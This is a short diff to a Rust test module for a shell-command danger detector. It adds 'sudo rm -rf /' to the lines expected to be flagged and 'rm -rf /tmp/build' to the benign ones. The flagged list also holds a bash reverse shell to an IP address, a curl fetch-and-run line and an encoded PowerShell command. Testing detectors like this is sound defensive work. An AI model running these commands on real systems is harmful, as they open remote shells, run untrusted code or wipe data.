@@ -87,6 +87,7 @@ mod tests {
             "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
             "bash <(curl -s x)",
             "powershell -EncodedCommand AAAA",
+            "sudo rm -rf /",
         ] {
             assert!(danger(line).is_some(), "{line}");
         }
@@ -96,6 +97,7 @@ mod tests {
             "python run.py --model x | tee log.txt",
             "pip install -r requirements.txt",
             "curl -L https://x/y.bin -o y.bin",
+            "rm -rf /tmp/build",
         ] {
             assert_eq!(danger(line), None, "{line}");
         }
